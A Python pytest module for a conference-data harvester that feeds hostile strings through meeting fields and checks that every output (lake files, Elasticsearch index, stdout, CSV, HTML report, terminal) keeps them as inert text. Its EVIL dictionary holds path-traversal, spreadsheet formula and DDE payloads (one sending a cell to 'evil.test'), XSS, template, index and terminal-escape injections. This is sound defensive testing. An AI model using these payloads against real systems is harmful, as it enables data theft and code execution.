"""Names, topics and ids that are meant to do harm: every destination keeps them as text, and nothing else happens."""

from __future__ import annotations

import csv
import io
import json
import re
from collections import Counter
from typing import TYPE_CHECKING, Any

import pytest

from harvesters.sandbox.zoom import Person, meeting
from tests.nights import lake_lines
from tests.node_door import stored
from tests.shell import Done, Shell, tree
from tests.zoom_days import DAY, SETTLED, at, environment
from tests.zoom_nights import zoom

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from elasticsearch import Elasticsearch

EVIL = {
    "path": "../../../../tmp/vconf-evil",
    "absolute": "/etc/passwd",
    "index": "*,-vconf-*,_all",
    "lines": 'one\ntwo\r\n{"index":{"_index":"vconf-evil"}}\n{}\u2028three',
    "formula": "=HYPERLINK(\"http://evil.test/\"&A1,\"x\")",
    "plus": "+1+cmd|' /C calc'!A0",
    "html": "</style><script>alert(1)</script><img src=x onerror=alert(2)>",
    "template": "{{ 7 * 7 }} ${7*7} %s %(x)s",
    "escape": "\x1b]0;evil\x07\x1b[2J\u202egnp.exe",
    "long": "x" * 40_000,
    "nothing": "\x00",
}  # fmt: skip
NAMES_OF_FILES = ("path", "absolute", "index", "html", "formula")
IDS = {name: f"{EVIL[name][:40]}==" for name in NAMES_OF_FILES}
DATE = str(DAY)
OWN_ID = re.compile(r"[a-z2-7]{32}(-[0-9a-f]+(\.\d+)?)?")
OF_TESTS = re.compile(r"vconf-t[0-9a-f]{8}-")
"""Other tests go on meanwhile."""
OWN_NAME = re.compile(r"[\w=.%-]+(/[\w=.%-]+)*")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Shell]:
    """A shell that harvested a day of such meetings into its lake."""
    meetings = [
        meeting(IDS.get(name, f"{number}xVhQWoSQmUs6ZOwFD4kw=="), at(9 + number / 10), 2, topic=text,
                people=[Person(text, email=text, row={"device": text, "location": text, "leave_reason": text})])
        for number, (name, text) in enumerate(EVIL.items())
    ]  # fmt: skip
    shell = Shell(tmp_path_factory.mktemp("hostile"))
    with zoom(meetings, SETTLED) as vendor:
        shell.env |= {**environment(vendor.server), "VCONF_NOW": SETTLED.isoformat()}
        done = shell("zoom", "--date", DATE, "--destination", "lake", "--report", "report.json")
        assert done.code == 0, done.err
        yield shell


def topics(documents: list[dict[str, Any]]) -> list[str]:
    return sorted(each["vconf"]["conference"].get("name", "") for each in documents)


def expected() -> list[str]:
    """As the vendor told them, but for what is white space at the ends, or no text at all."""
    return sorted(EVIL.values())


def test_the_lake_has_them_word_for_word_a_document_a_line_and_no_other_file(hostile: Shell) -> None:
    conferences = [json.loads(line) for line in lake_lines(hostile.data, "conference")]
    assert topics(conferences) == expected()
    named = sorted(json.loads(line)["user"]["full_name"] for line in lake_lines(hostile.data, "participant"))
    assert named == expected()
    files = tree(hostile.folder)
    assert [name for name in files if not OWN_NAME.fullmatch(name)] == []
    assert {name.split("/")[0] for name in files} == {"data", ".env", "report.json"}


def test_an_index_has_them_under_ids_of_ours_and_no_other_index_is_made(
    hostile: Shell, es: Elasticsearch, es_url: str, prefix: str
) -> None:
    into = {"ES_HOST": es_url, "INDEX_PREFIX": prefix}
    assert hostile("setup", "templates", **into).code == 0
    before = set(es.indices.get(index="*", expand_wildcards="all"))
    done = hostile("replay", "zoom", "--date", DATE, "--destination", "index", **into)
    assert done.code == 0, done.err

    found = stored(es, es_url, prefix)
    assert all(OWN_ID.fullmatch(id_) for id_ in found)
    calls = [json.loads(hit.source) for hit in found.values()]
    assert topics([each for each in calls if each["vconf"]["type"] == "conference"]) == expected()
    made = set(es.indices.get(index="*", expand_wildcards="all")) - before
    made = {name for name in made if name.startswith(prefix) or not OF_TESTS.match(name)}
    assert {name.removeprefix(prefix) for name in made} == {
        "-conferences-2026", "-participants-2026", "-streams-2026", "-samples-2026.11", "-usage-2026", "-runs",
    } | ({"-issues-2026"} if any(each["vconf"]["type"] == "issue" for each in calls) else set())  # fmt: skip


def test_stdout_has_as_many_lines_as_there_are_documents(hostile: Shell) -> None:
    done = hostile("replay", "zoom", "--date", DATE, "--destination", "stdout")
    assert done.code == 0, done.err
    *lines, after = done.out.split("\n")
    types = Counter(json.loads(line)["vconf"]["type"] for line in lines)
    assert after == ""
    assert types["conference"] == len(EVIL)


def test_a_table_has_no_cell_that_a_spreadsheet_would_run(hostile: Shell, tmp_path: Path) -> None:
    done = hostile("export", "csv", "--type", "conference", "--date", DATE, "--out", str(tmp_path))
    assert done.code == 0, done.err
    (table,) = tmp_path.rglob("*.csv")
    rows = list(csv.reader(io.StringIO(table.read_text("utf-8-sig"), newline="")))
    assert len(rows) == 1 + len(EVIL)
    assert [cell for row in rows[1:] for cell in row if cell[:1] in set("=+@\t\r")] == []
    assert any(cell.startswith("'=HYPERLINK") for row in rows for cell in row)


def test_a_page_and_a_terminal_show_them_as_text(hostile: Shell) -> None:
    page = hostile("report", "--date", DATE, "--html", "-")
    assert page.code == 0, page.err
    assert "<script" not in page.out
    assert "<img" not in page.out
    for line in lake_lines(hostile.data, "conference"):
        told = hostile("explain", "zoom", json.loads(line)["vconf"]["conference"]["id"], "--in", "lake")
        assert_harmless(told)
    for more in ([], ["--verify"], ["--json"]):
        assert_harmless(hostile("status", "--last", "7d", *more), code=3)  # of the other days none was harvested


def assert_harmless(done: Done, code: int = 0) -> None:
    assert done.code == code, done.err
    for text in (done.out, done.err):
        assert not set(text) & set("\x1b\x07\x00\u202e\u2028")
        assert len(text) < 20_000
